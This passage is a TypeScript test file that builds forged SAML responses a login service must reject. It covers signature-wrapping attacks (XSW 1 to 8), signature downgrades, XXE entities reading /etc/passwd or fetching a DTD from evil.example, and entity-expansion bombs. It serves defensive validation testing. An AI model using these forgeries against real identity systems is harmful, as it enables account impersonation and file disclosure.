import { createHash, createHmac, createSign, type KeyObject } from 'node:crypto'
import { selfSigned } from '../../infra/local/saml/provider.ts'
import { assertionXml, responseXml, type Response as Said, signatureOver, withSignature } from '../../infra/local/saml/signed-response.ts'
import { rsaKeys } from './rsa-keys.ts'
import { idp } from './saml.ts'

/** A document that must be refused: what is done to the good one, and what the log says of it. */
export type Forgery = { readonly name: string; readonly make: (said: Said) => string | Uint8Array; readonly because: RegExp }

const { privateKey: stranger } = rsaKeys(2048, 'second')
const VICTIM = 'victim@staff.example'

type Edit = (text: string) => string
const same: Edit = (text) => text
const swap =
  (from: string | RegExp, to: string): Edit =>
  (text) => {
    const changed = text.replace(from, () => to)
    if (changed === text) throw new Error(`nothing to replace: ${from}`)
    return changed
  }

/** The assertion is changed and then signed, the response around it changed afterwards: only what is judged of them is wrong. */
function signed(said: Said, edit: Edit = same, around: Edit = same, key: KeyObject = idp.key): string {
  const assertion = edit(assertionXml(said))
  return around(responseXml(said, withSignature(assertion, signatureOver(assertion, said.assertionId, key))))
}

const row = (name: string, because: RegExp, make: Forgery['make']): Forgery => ({ name, because, make })
/** Signed as it stands. */
const says = (name: string, because: RegExp, edit: Edit) => row(name, because, (said) => signed(said, edit))
/** Changed after it was signed. */
const around = (name: string, because: RegExp, edit: Edit) => row(name, because, (said) => signed(said, same, edit))
const wrong = (name: string, because: RegExp, changes: (said: Said) => Partial<Said>) =>
  row(name, because, (said) => signed({ ...said, ...changes(said) }))

const at = (moment: number) => new Date(moment).toISOString()
const evil = (said: Said) => assertionXml({ ...said, assertionId: '_evil', nameId: VICTIM })
const SIG = 'http://www.w3.org/2000/09/xmldsig#'

export const WRONG_WORDS: readonly Forgery[] = [
  wrong('another issuer', /response-issuer/, () => ({ issuer: 'https://evil.example' })),
  row('another issuer of the assertion only', /saml-issuer/, (said) =>
    signed(said, swap(/<saml:Issuer>[^<]*/, '<saml:Issuer>https://evil.example')),
  ),
  says('an empty issuer', /saml-issuer/, swap(/<saml:Issuer>[^<]*/, '<saml:Issuer>')),
  says('an issuer that begins like ours', /saml-issuer/, swap('</saml:Issuer>', '.evil.example</saml:Issuer>')),
  says(
    'no issuer',
    /saml-(issuer|signature|assertion-not-signed)|no-response|not-one/,
    swap(/<saml:Issuer>[^<]*<\/saml:Issuer>/, '<saml:NoIssuer></saml:NoIssuer>'),
  ),
  wrong('another destination', /destination/, () => ({ destination: 'https://evil.example/acs' })),
  wrong('the destination of another provider', /destination/, ({ destination }) => ({ destination: `${destination}2` })),
  wrong('a destination with a query', /destination/, ({ destination }) => ({ destination: `${destination}?x=1` })),
  wrong('an empty destination', /destination/, () => ({ destination: '' })),
  around('no destination', /destination/, swap(/ Destination="[^"]*"/, '')),
  wrong('another recipient', /recipient/, () => ({ recipient: 'https://evil.example/acs' })),
  wrong('an empty recipient', /recipient/, () => ({ recipient: '' })),
  says('no recipient', /recipient/, swap(/ Recipient="[^"]*"/, '')),
  wrong('another audience', /audience/, () => ({ audience: 'https://evil.example' })),
  wrong('the audience of another provider', /audience/, ({ audience }) => ({ audience: `${audience}2` })),
  wrong('an empty audience', /audience/, () => ({ audience: '' })),
  says('no audience', /audience/, swap(/<saml:Audience>[^<]*<\/saml:Audience>/, '')),
  says('no audience restriction', /audience/, swap(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/, '')),
  says(
    'two audience restrictions of which one is not for us',
    /audience/,
    swap(
      '</saml:Conditions>',
      '<saml:AudienceRestriction><saml:Audience>https://evil.example</saml:Audience></saml:AudienceRestriction></saml:Conditions>',
    ),
  ),
  says(
    'a condition that nobody knows',
    /unknown-condition/,
    swap('</saml:Conditions>', '<saml:Condition></saml:Condition></saml:Conditions>'),
  ),
  says('no conditions', /conditions/, swap(/<saml:Conditions.*<\/saml:Conditions>/, '')),
  says('conditions twice', /conditions/, (text) => text.replace(/(<saml:Conditions.*<\/saml:Conditions>)/, '$1$1')),
  wrong('no request', /unsolicited|in-response-to/, () => ({ inResponseTo: '' })),
  around('no InResponseTo of the response', /unsolicited/, swap(/ InResponseTo="[^"]*"/, '')),
  wrong('another request', /no-such-request/, () => ({ inResponseTo: `_${'0'.repeat(40)}` })),
  wrong('a request that is no id of ours', /in-response-to/, () => ({ inResponseTo: '_x#y' })),
  says('another request in the assertion only', /in-response-to/, swap(/ InResponseTo="[^"]*"/, ` InResponseTo="_${'1'.repeat(40)}"`)),
  says('no InResponseTo in the assertion', /in-response-to/, swap(/ InResponseTo="[^"]*"/, '')),
  wrong('an assertion that is over', /not-on-or-after/, ({ now }) => ({ now: now - 3_600_000 })),
  wrong('an assertion of the future', /issue-instant/, ({ now }) => ({ now: now + 3_600_000 })),
  row('conditions that are over', /not-on-or-after/, (said) =>
    signed(said, swap(/(?<=NotBefore="[^"]*" )NotOnOrAfter="[^"]*"/, `NotOnOrAfter="${at(said.now - 61_000)}"`)),
  ),
  row('conditions that have not begun', /not-before/, (said) =>
    signed(said, swap(/NotBefore="[^"]*"/, `NotBefore="${at(said.now + 120_000)}"`)),
  ),
  says('conditions without an end', /not-on-or-after/, swap(/(?<=NotBefore="[^"]*") NotOnOrAfter="[^"]*"/, '')),
  row('a confirmation that is over', /confirmation-not-on-or-after/, (said) =>
    signed(said, swap(/NotOnOrAfter="[^"]*" Recipient/, `NotOnOrAfter="${at(said.now - 61_000)}" Recipient`)),
  ),
  says('a confirmation without an end', /confirmation-not-on-or-after/, swap(/ NotOnOrAfter="[^"]*"(?= Recipient)/, '')),
  row('a confirmation with a beginning', /confirmation-not-before/, (said) =>
    signed(
      said,
      swap(/ NotOnOrAfter="[^"]*"(?= Recipient)/, ` NotBefore="${at(said.now - 1000)}" NotOnOrAfter="${at(said.now + 60_000)}"`),
    ),
  ),
  says('an end that is no time', /not-on-or-after/, swap(/(?<=NotBefore="[^"]*" )NotOnOrAfter="[^"]*"/, 'NotOnOrAfter="tomorrow"')),
  says(
    'an end in another notation of time',
    /not-on-or-after/,
    swap(/(?<=NotBefore="[^"]*" )NotOnOrAfter="[^"]*"/, 'NotOnOrAfter="2099-01-01T00:00:00+00:00"'),
  ),
  says(
    'an end in a month that there is not',
    /not-on-or-after/,
    swap(/(?<=NotBefore="[^"]*" )NotOnOrAfter="[^"]*"/, 'NotOnOrAfter="2099-13-41T00:00:00Z"'),
  ),
  says('no time of issue', /issue-instant/, swap(/ IssueInstant="[^"]*"/, '')),
  says('another version of SAML', /no-assertion/, swap('Version="2.0"', 'Version="1.1"')),
  around('another version of the response', /version/, swap(/Version="2.0">(?=<saml:Issuer xmlns)/, 'Version="1.1">')),
  says('no subject', /name-id/, swap(/<saml:Subject>.*<\/saml:Subject>/, '')),
  says('no name', /name-id/, swap(/<saml:NameID.*<\/saml:NameID>/, '')),
  wrong('an empty name', /name-id/, () => ({ nameId: '' })),
  wrong('a name of blanks', /name-id/, () => ({ nameId: '   ' })),
  wrong('a name that is too long', /name-id/, () => ({ nameId: 'x'.repeat(300) })),
  wrong('a name with a character that hides', /name-id/, () => ({ nameId: `vic\u200btim@staff.example` })),
  says('two names', /name-id/, (text) => text.replace(/(<saml:NameID.*<\/saml:NameID>)/, '$1$1')),
  says('a name with an element in it', /xml|name-id/, swap('</saml:NameID>', '<saml:X></saml:X></saml:NameID>')),
  says(
    'a transient name',
    /name-id-format/,
    swap(/Format="[^"]*unspecified"/, 'Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient"'),
  ),
  says('an encrypted name', /name-id/, (text) => text.replace(/<saml:NameID.*<\/saml:NameID>/, '<saml:EncryptedID></saml:EncryptedID>')),
  says('no subject confirmation', /subject-confirmation/, swap(/<saml:SubjectConfirmation .*<\/saml:SubjectConfirmation>/, '')),
  says('no subject confirmation data', /recipient/, swap(/<saml:SubjectConfirmationData.*<\/saml:SubjectConfirmationData>/, '')),
  says('a confirmation by a key', /subject-confirmation/, swap('cm:bearer', 'cm:holder-of-key')),
  says('a confirmation by the sender', /subject-confirmation/, swap('cm:bearer', 'cm:sender-vouches')),
  says('two confirmations', /subject-confirmation/, (text) =>
    text.replace(/(<saml:SubjectConfirmation .*<\/saml:SubjectConfirmation>)/, '$1$1'),
  ),
  says('no word of how somebody proved who they are', /authn-statement/, swap(/<saml:AuthnStatement.*<\/saml:AuthnStatement>/, '')),
  row('a proof in the future', /authn-instant/, (said) =>
    signed(said, swap(/AuthnInstant="[^"]*"/, `AuthnInstant="${at(said.now + 120_000)}"`)),
  ),
  says('a proof at no time', /authn-instant/, swap(/ AuthnInstant="[^"]*"/, '')),
  wrong('a session that is over', /session-ended/, ({ now }) => ({ sessionNotOnOrAfter: now - 1000 })),
  says('a session that ends at no time', /session-ended/, swap('SessionIndex=', 'SessionNotOnOrAfter="never" SessionIndex=')),
  says('advice', /element-out-of-place|assertion-part/, swap('<saml:AuthnStatement', '<saml:Advice></saml:Advice><saml:AuthnStatement')),
  says(
    'a decision',
    /assertion-part/,
    swap('<saml:AuthnStatement', '<saml:AuthzDecisionStatement></saml:AuthzDecisionStatement><saml:AuthnStatement'),
  ),
  around('the status of a failure', /status/, swap('status:Success', 'status:Requester')),
  around(
    'a status below success',
    /status/,
    swap(
      'status:Success"></samlp:StatusCode>',
      'status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"></samlp:StatusCode></samlp:StatusCode>',
    ),
  ),
  around('no status', /status/, swap(/<samlp:Status>.*<\/samlp:Status>/, '')),
]

export const WRONG_SIGNATURES: readonly Forgery[] = [
  row('no signature', /assertion-not-signed/, (said) => responseXml(said, assertionXml(said))),
  row('the signature of a stranger', /saml-library/, (said) => signed(said, same, same, stranger)),
  row('a stranger’s signature with the certificate of the provider beside it', /saml-library/, (said) =>
    signed(said, same, keyInfo(idp.certificate), stranger),
  ),
  row('a stranger’s signature with the stranger’s certificate beside it', /saml-library/, (said) =>
    signed(said, same, keyInfo(selfSigned(stranger, 'idp.example')), stranger),
  ),
  row('only the response signed', /assertion-not-signed/, (said) => {
    const whole = responseXml(said, assertionXml(said))
    return whole.replace('</saml:Issuer>', () => `</saml:Issuer>${signatureOver(whole, said.responseId, idp.key)}`)
  }),
  row('a response whose own signature is a stranger’s', /saml-library/, (said) => {
    const whole = signed(said)
    return whole.replace('</saml:Issuer>', () => `</saml:Issuer>${signatureOver(whole, said.responseId, stranger)}`)
  }),
  row('a response that was changed after it was signed', /saml-library/, (said) => {
    const whole = signed(said)
    return whole
      .replace('</saml:Issuer>', () => `</saml:Issuer>${signatureOver(whole, said.responseId, idp.key)}`)
      .replace('Version="2.0">', 'Consent="x" Version="2.0">')
  }),
  around('another name after it was signed', /saml-library/, swap(/(?<=unspecified">)[^<]*/, VICTIM)),
  around(
    'another attribute after it was signed',
    /saml-library/,
    swap('</saml:Assertion>', '<saml:AttributeStatement></saml:AttributeStatement></saml:Assertion>'),
  ),
  around('another audience after it was signed', /saml-library/, swap(/(?<=<saml:Audience>)[^<]*/, 'https://evil.example')),
  around('another time after it was signed', /saml-library/, swap(/SessionIndex="[^"]*"/, 'SessionIndex="_1"')),
  around('another digest', /saml-library/, swap(/(?<=<ds:DigestValue>)[^<]*/, createHash('sha256').update('x').digest('base64'))),
  around('an empty digest', /saml-library/, swap(/(?<=<ds:DigestValue>)[^<]*/, '')),
  around('an empty signature value', /saml-library/, swap(/(?<=<ds:SignatureValue>)[^<]*/, '')),
  around('a signature value of zeros', /saml-library/, swap(/(?<=<ds:SignatureValue>)[^<]*/, Buffer.alloc(256).toString('base64'))),
  around('a signature value that is no base64', /saml-library/, swap(/(?<=<ds:SignatureValue>)[^<]*/, '!!!!')),
  ...[
    'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
    'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
    'http://www.w3.org/2000/09/xmldsig#dsa-sha1',
    'http://www.w3.org/2001/04/xmldsig-more#rsa-md5',
    'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256',
    'http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256',
    'none',
    '',
  ].map((algorithm) =>
    around(
      `a signature by ${algorithm === '' ? 'no algorithm' : algorithm}`,
      /signature-algorithm/,
      swap(/(?<=SignatureMethod Algorithm=")[^"]*/, algorithm),
    ),
  ),
  ...[
    'http://www.w3.org/2000/09/xmldsig#sha1',
    'http://www.w3.org/2001/04/xmldsig-more#md5',
    'http://www.w3.org/2001/04/xmldsig-more#sha224',
    '',
  ].map((algorithm) =>
    around(
      `a digest by ${algorithm === '' ? 'no algorithm' : algorithm}`,
      /digest-algorithm/,
      swap(/(?<=DigestMethod Algorithm=")[^"]*/, algorithm),
    ),
  ),
  row('a signature by SHA-1 that is right', /signature-algorithm/, (said) => {
    const assertion = assertionXml(said)
    const info = signatureOver(assertion, said.assertionId, idp.key)
      .replace(/^.*?<ds:SignedInfo>(.*)<\/ds:SignedInfo>.*$/, '$1')
      .replace('2001/04/xmldsig-more#rsa-sha256', '2000/09/xmldsig#rsa-sha1')
    const value = createSign('RSA-SHA1').update(`<ds:SignedInfo xmlns:ds="${SIG}">${info}</ds:SignedInfo>`).sign(idp.key, 'base64')
    return responseXml(
      said,
      withSignature(
        assertion,
        `<ds:Signature xmlns:ds="${SIG}"><ds:SignedInfo>${info}</ds:SignedInfo><ds:SignatureValue>${value}</ds:SignatureValue></ds:Signature>`,
      ),
    )
  }),
  row('an HMAC with the certificate as its key', /signature-algorithm/, (said) => {
    const assertion = assertionXml(said)
    const info = signatureOver(assertion, said.assertionId, idp.key)
      .replace(/^.*?<ds:SignedInfo>(.*)<\/ds:SignedInfo>.*$/, '$1')
      .replace('rsa-sha256', 'hmac-sha256')
    const value = createHmac('sha256', idp.certificate).update(`<ds:SignedInfo xmlns:ds="${SIG}">${info}</ds:SignedInfo>`).digest('base64')
    return responseXml(
      said,
      withSignature(
        assertion,
        `<ds:Signature xmlns:ds="${SIG}"><ds:SignedInfo>${info}</ds:SignedInfo><ds:SignatureValue>${value}</ds:SignatureValue></ds:Signature>`,
      ),
    )
  }),
  ...[
    'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
    'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
    'http://www.w3.org/2006/12/xml-c14n11',
    'none',
  ].flatMap((algorithm) => [
    around(`canonicalisation by ${algorithm}`, /canonicalization/, swap(/(?<=CanonicalizationMethod Algorithm=")[^"]*/, algorithm)),
    around(
      `a transform by ${algorithm}`,
      /transforms/,
      swap(/(?<=<ds:Transform Algorithm=")http:\/\/www\.w3\.org\/2001\/10[^"]*/, algorithm),
    ),
  ]),
  around(
    'a transform by XSLT',
    /transforms|element/,
    swap('</ds:Transforms>', '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"></ds:Transform></ds:Transforms>'),
  ),
  around(
    'a transform by XPath',
    /transforms/,
    swap(/(?<=<ds:Transform Algorithm=")http:\/\/www\.w3\.org\/2001\/10[^"]*/, 'http://www.w3.org/TR/1999/REC-xpath-19991116'),
  ),
  around('a transform by base64', /transforms/, swap(/(?<=<ds:Transform Algorithm=")http:\/\/www\.w3\.org\/2001\/10[^"]*/, `${SIG}base64`)),
  around('a list of 10,000 prefixes that count', /transforms/, prefixes('</ds:Transform></ds:Transforms>', 10_000)),
  around(
    'a list of 10,000 prefixes that count in the signature itself',
    /canonicalization/,
    prefixes('</ds:CanonicalizationMethod>', 10_000),
  ),
  around(
    'something else in the canonicalisation',
    /canonicalization/,
    swap('</ds:CanonicalizationMethod>', '<ds:Transform></ds:Transform></ds:CanonicalizationMethod>'),
  ),
  around('no transforms', /reference-parts|transforms/, swap(/<ds:Transforms>.*<\/ds:Transforms>/, '<ds:Transforms></ds:Transforms>')),
  around('the transforms in another order', /transforms/, (text) =>
    text.replace(/(<ds:Transform Alg[^>]*><\/ds:Transform>)(<ds:Transform Alg[^>]*><\/ds:Transform>)/, '$2$1'),
  ),
  around('a reference to nothing', /reference/, swap(/URI="#[^"]*"/, 'URI=""')),
  around('no reference', /signed-info-parts/, swap(/<ds:Reference.*<\/ds:Reference>/, '')),
  around('a reference to another id', /reference/, swap(/URI="#[^"]*"/, 'URI="#_other"')),
  around('a reference to a file', /reference/, swap(/URI="#[^"]*"/, 'URI="file:///etc/passwd"')),
  around('a reference to another site', /reference/, swap(/URI="#[^"]*"/, 'URI="https://evil.example/"')),
  around('a reference by XPointer', /reference/, swap(/URI="#([^"]*)"/, 'URI="#xpointer(/)"')),
  row('a reference to the response', /reference/, (said) => signed(said, same, swap(/URI="#[^"]*"/, `URI="#${said.responseId}"`))),
  around('two references', /signed-info-parts|element-out-of-place/, (text) => text.replace(/(<ds:Reference.*<\/ds:Reference>)/, '$1$1')),
  around('two SignedInfos', /signature-parts|element-out-of-place/, (text) => text.replace(/(<ds:SignedInfo>.*<\/ds:SignedInfo>)/, '$1$1')),
  around('two signature values', /key-info|signature-parts|element-out-of-place/, (text) =>
    text.replace(/(<ds:SignatureValue>.*<\/ds:SignatureValue>)/, '$1$1'),
  ),
  around('two signatures', /two-signatures|ids/, (text) => text.replace(/(<ds:Signature .*<\/ds:Signature>)/, '$1$1')),
  around('a signature with an object', /element-out-of-place/, swap('</ds:Signature>', '<ds:Object></ds:Object></ds:Signature>')),
  around(
    'a signature value hidden in the key info',
    /element-out-of-place/,
    swap('</ds:Signature>', '<ds:KeyInfo><ds:SignatureValue>x</ds:SignatureValue></ds:KeyInfo></ds:Signature>'),
  ),
  around(
    'a SignedInfo hidden in the key info',
    /element-out-of-place/,
    swap('</ds:Signature>', '<ds:KeyInfo><ds:SignedInfo></ds:SignedInfo></ds:KeyInfo></ds:Signature>'),
  ),
  around(
    'a canonicalisation hidden in the key info',
    /key-info/,
    swap(
      '</ds:Signature>',
      '<ds:KeyInfo><ds:CanonicalizationMethod Algorithm="none"></ds:CanonicalizationMethod></ds:KeyInfo></ds:Signature>',
    ),
  ),
  around(
    'a key to be fetched',
    /key-info/,
    swap(
      '</ds:Signature>',
      '<ds:KeyInfo><ds:RetrievalMethod URI="https://evil.example/"></ds:RetrievalMethod></ds:KeyInfo></ds:Signature>',
    ),
  ),
  around(
    'a key info with 400 certificates',
    /key-info/,
    swap(
      '</ds:Signature>',
      `<ds:KeyInfo><ds:X509Data>${'<ds:X509Certificate>AAAA</ds:X509Certificate>'.repeat(400)}</ds:X509Data></ds:KeyInfo></ds:Signature>`,
    ),
  ),
  around(
    '400 elements with ids',
    /ids/,
    swap('</saml:Assertion>', `${Array.from({ length: 400 }, (_, place) => `<saml:x ID="x${place}"/>`).join('')}</saml:Assertion>`),
  ),
  around('a signature in another namespace', /element-out-of-place|assertion-not-signed/, (text) => text.replaceAll(SIG, 'urn:x')),
  row('as many attributes as there may be, changed after they were signed', /saml-library/, (said) => {
    const attributes = Object.fromEntries(Array.from({ length: 230 }, (_, place) => [`a${place}`, ['x'.repeat(120)]]))
    return signed({ ...said, attributes }, same, swap(/(?<=unspecified">)[^<]*/, VICTIM))
  }),
  around('an encrypted assertion', /response-part|not-one|element/, (text) =>
    text.replace(
      /<saml:Assertion.*<\/saml:Assertion>/,
      '<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"></saml:EncryptedAssertion>',
    ),
  ),
]

function prefixes(before: string, count: number): Edit {
  const list = Array.from({ length: count }, (_, place) => `p${place.toString(36)}`).join(' ')
  return swap(before, `<ec:InclusiveNamespaces xmlns:ec="http://www.w3.org/2001/10/xml-exc-c14n#" PrefixList="${list}"/>${before}`)
}

function keyInfo(pem: string): Edit {
  const base64 = pem.replaceAll(/-----[A-Z ]+-----|\n/g, '')
  return (text) =>
    text.replace(
      '</ds:Signature>',
      `<ds:KeyInfo><ds:X509Data><ds:X509Certificate>${base64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></ds:Signature>`,
    )
}

const assertionIn = (xml: string): string => /<saml:Assertion.*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
const signatureIn = (xml: string): string => /<ds:Signature .*<\/ds:Signature>/.exec(xml)?.[0] ?? ''
const unsignedIn = (xml: string): string => assertionIn(xml).replace(signatureIn(xml), '')
const wrapped = (name: string, make: (xml: string, said: Said) => string): Forgery =>
  row(
    name,
    /ids|not-one-assertion|element-out-of-place|assertion-not-signed|reference|response-part|two-signatures|no-response|xml/,
    (said) => make(signed(said), said),
  )

/** XSW 1 to 8 of “On Breaking SAML” (Somorovsky and others, 2012), as far as they are about signed assertions, and more of the kind. */
export const WRAPPED: readonly Forgery[] = [
  wrapped('1: the signed response inside the signature of another', (xml, said) =>
    responseXml({ ...said, responseId: '_evil2' }, evil(said)).replace(
      '</saml:Issuer>',
      `</saml:Issuer>${signatureIn(xml).replace('</ds:Signature>', `${xml}</ds:Signature>`)}`,
    ),
  ),
  wrapped('2: the signed response beside the signature of another', (xml, said) =>
    responseXml({ ...said, responseId: '_evil2' }, evil(said)).replace('</saml:Issuer>', `</saml:Issuer>${xml}${signatureIn(xml)}`),
  ),
  wrapped('3: another assertion before the signed one', (xml, said) => xml.replace('<saml:Assertion', `${evil(said)}<saml:Assertion`)),
  wrapped('3b: another assertion after the signed one', (xml, said) => xml.replace('</samlp:Response>', `${evil(said)}</samlp:Response>`)),
  wrapped('4: the signed assertion inside another', (xml, said) =>
    xml.replace(assertionIn(xml), () => evil(said).replace('</saml:Assertion>', `${assertionIn(xml)}</saml:Assertion>`)),
  ),
  wrapped('5: the signature in another assertion, the signed one behind it', (xml, said) =>
    xml.replace(assertionIn(xml), () => withSignature(evil(said), signatureIn(xml)) + unsignedIn(xml)),
  ),
  wrapped('6: the signed assertion inside the signature of another', (xml, said) =>
    xml.replace(assertionIn(xml), () =>
      withSignature(evil(said), signatureIn(xml).replace('</ds:Signature>', `${unsignedIn(xml)}</ds:Signature>`)),
    ),
  ),
  wrapped('7: another assertion with the same id in an extension', (xml, said) =>
    xml.replace(
      '<samlp:Status>',
      () => `<samlp:Extensions>${evil(said).replace('_evil', said.assertionId)}</samlp:Extensions><samlp:Status>`,
    ),
  ),
  wrapped('7b: the signed assertion in an extension, another in its place', (xml, said) =>
    xml
      .replace(assertionIn(xml), () => evil(said))
      .replace('<samlp:Status>', () => `<samlp:Extensions>${assertionIn(xml)}</samlp:Extensions><samlp:Status>`),
  ),
  wrapped('8: the signed assertion in an object of the signature of another', (xml, said) =>
    xml.replace(assertionIn(xml), () =>
      withSignature(evil(said), signatureIn(xml).replace('</ds:Signature>', `<ds:Object>${unsignedIn(xml)}</ds:Object></ds:Signature>`)),
    ),
  ),
  wrapped('another assertion with the same id before the signed one', (xml, said) =>
    xml.replace('<saml:Assertion', () => `${evil(said).replace('_evil', said.assertionId)}<saml:Assertion`),
  ),
  wrapped('the id of the assertion on another element', (xml, said) =>
    xml.replace('<samlp:Status>', `<samlp:Status ID="${said.assertionId}">`),
  ),
  wrapped('the id of the assertion as Id of another element', (xml, said) =>
    xml.replace('<samlp:Status>', `<samlp:Status Id="${said.assertionId}">`),
  ),
  wrapped('the id of the assertion as xml:id of another element', (xml, said) =>
    xml.replace('<samlp:Status>', `<samlp:Status xml:id="${said.assertionId}">`),
  ),
  wrapped('the response with the id of the assertion', (xml, said) => xml.replace(said.responseId, said.assertionId)),
  wrapped('an assertion of another namespace beside the signed one', (xml, said) =>
    xml.replace('<saml:Assertion', () => `${evil(said).replaceAll('urn:oasis:names:tc:SAML:2.0:assertion', 'urn:x')}<saml:Assertion`),
  ),
  wrapped('an assertion in the status', (xml, said) =>
    xml.replace('</samlp:Status>', () => `<samlp:StatusDetail>${evil(said)}</samlp:StatusDetail></samlp:Status>`),
  ),
  wrapped('a response inside the response', (xml) => xml.replace('<samlp:Status>', () => `${xml}<samlp:Status>`)),
  wrapped('the signed assertion as the root', (xml) => assertionIn(xml)),
  wrapped('two roots', (xml, said) => responseXml(said, evil(said)) + xml),
  wrapped(
    'a soap envelope around it',
    (xml) => `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>${xml}</soap:Body></soap:Envelope>`,
  ),
  wrapped('a response of another namespace', (xml) => xml.replaceAll('urn:oasis:names:tc:SAML:2.0:protocol', 'urn:x')),
  wrapped('an answer to a logout', (xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse')),
  wrapped('the signature outside of the assertion', (xml) =>
    xml.replace(signatureIn(xml), '').replace('</saml:Issuer>', () => `</saml:Issuer>${signatureIn(xml)}`),
  ),
  wrapped('the signature in the subject', (xml) =>
    xml.replace(signatureIn(xml), '').replace('<saml:Subject>', () => `<saml:Subject>${signatureIn(xml)}`),
  ),
  wrapped('an empty assertion, and the signed one in it', (xml) =>
    xml.replace(
      assertionIn(xml),
      () => `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${assertionIn(xml)}</saml:Assertion>`,
    ),
  ),
  wrapped('an assertion as advice in another', (xml, said) =>
    xml.replace(assertionIn(xml), () =>
      evil(said).replace('<saml:AuthnStatement', () => `<saml:Advice>${assertionIn(xml)}</saml:Advice><saml:AuthnStatement`),
    ),
  ),
  wrapped('an id with a quote, to leave an XPath', (xml, said) => xml.replaceAll(said.assertionId, '_x&quot;] | //*[@ID=&quot;_y')),
]

const XML = /saml-xml|saml-signed-xml|too-large|unsupported|invalid|response|not-one|name-id/
const odd = (name: string, edit: (xml: string, said: Said) => string | Uint8Array, because: RegExp = XML) =>
  row(name, because, (said) => edit(signed(said), said))
const doctype = (declaration: string) => (xml: string) => `<!DOCTYPE x [${declaration}]>${xml}`

export const ODD_XML: readonly Forgery[] = [
  odd('a comment in the name', (xml) => xml.replace('@staff', '<!---->@staff')),
  row('a comment in the name that was there when it was signed', XML, (said) => {
    const canonical = assertionXml(said)
    return responseXml(said, withSignature(canonical, signatureOver(canonical, said.assertionId, idp.key))).replace(
      '@staff',
      '<!--x-->@staff',
    )
  }),
  odd('a comment in the issuer', (xml) => xml.replace('</saml:Issuer>', '<!----></saml:Issuer>')),
  odd('a comment before the root', (xml) => `<!-- -->${xml}`),
  odd('a comment after the root', (xml) => `${xml}<!-- -->`),
  odd('a comment in the signature value', (xml) => xml.replace('<ds:SignatureValue>', '<ds:SignatureValue><!---->')),
  odd('a comment in the digest', (xml) => xml.replace('<ds:DigestValue>', '<ds:DigestValue><!--x-->')),
  odd('a processing instruction in the name', (xml) => xml.replace('@staff', '<?x?>@staff')),
  odd('a processing instruction before the root', (xml) => `<?xml-stylesheet href="https://evil.example/x.xsl"?>${xml}`),
  odd('a CDATA section in the name', (xml) => xml.replace('@staff', '<![CDATA[]]>@staff')),
  odd('a DOCTYPE', (xml) => `<!DOCTYPE Response>${xml}`),
  odd('a DOCTYPE behind the declaration', (xml) => `<?xml version="1.0"?><!DOCTYPE Response>${xml}`),
  odd('an entity', (xml) => doctype(`<!ENTITY v "victim">`)(xml).replace('@staff', '&v;@staff')),
  odd('an entity that is a file', (xml) => doctype('<!ENTITY v SYSTEM "file:///etc/passwd">')(xml).replace('@staff', '&v;@staff')),
  odd('an entity that is fetched', (xml) => doctype('<!ENTITY % v SYSTEM "https://evil.example/x.dtd">%v;')(xml)),
  odd('entities that grow', (xml) =>
    doctype('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">')(
      xml,
    ).replace('@staff', '&c;@staff'),
  ),
  odd('an id that a DOCTYPE gives', (xml) => doctype('<!ATTLIST saml:Assertion X ID #IMPLIED>')(xml)),
  odd('an entity that nobody declared', (xml) => xml.replace('@staff', '&nbsp;@staff')),
  odd('an entity without an end', (xml) => xml.replace('@staff', '&amp@staff')),
  odd('the character NUL', (xml) => xml.replace('@staff', '\u0000@staff')),
  odd('the character NUL by number', (xml) => xml.replace('@staff', '&#0;@staff')),
  odd('a control character', (xml) => xml.replace('@staff', '\u0008@staff')),
  odd('half a character by number', (xml) => xml.replace('@staff', '&#xD800;@staff')),
  odd('a character beyond Unicode', (xml) => xml.replace('@staff', '&#x110000;@staff')),
  odd('an attribute twice', (xml, said) => xml.replace(' Version="2.0">', ` Version="2.0" Version="2.0">`).replace('_never', said.issuer)),
  odd('an attribute twice by another prefix', (xml) =>
    xml.replace('<samlp:Response ', '<samlp:Response xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2" '),
  ),
  odd('a prefix that is not declared', (xml) =>
    xml.replace('<samlp:Status>', '<nobody:Status>').replace('</samlp:Status>', '</nobody:Status>'),
  ),
  odd('the prefix xml declared anew', (xml) => xml.replace('<samlp:Response ', '<samlp:Response xmlns:xml="urn:x" ')),
  odd('the prefix xmlns declared', (xml) => xml.replace('<samlp:Response ', '<samlp:Response xmlns:xmlns="urn:x" ')),
  odd('a prefix taken back', (xml) => xml.replace('<samlp:Status>', '<samlp:Status xmlns:samlp="">')),
  odd('an element that is not closed', (xml) => xml.replace('</samlp:Response>', '')),
  odd('elements that cross', (xml) =>
    xml.replace('</samlp:Status></', '</').replace('</samlp:StatusCode>', '</samlp:Status></samlp:StatusCode>'),
  ),
  odd('text between elements', (xml) => xml.replace('<samlp:Status>', 'text<samlp:Status>')),
  odd('text after the root', (xml) => `${xml}text`),
  odd('text before the root', (xml) => `text${xml}`),
  odd('a byte order mark', (xml) => `\ufeff${xml}`),
  odd('another version of XML', (xml) => `<?xml version="1.1"?>${xml}`),
  odd('another encoding', (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`),
  odd('UTF-16', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
  odd('bytes that are no UTF-8', (xml) =>
    Buffer.concat([Buffer.from(xml.slice(0, -20)), Buffer.from([0xff, 0xfe]), Buffer.from(xml.slice(-20))]),
  ),
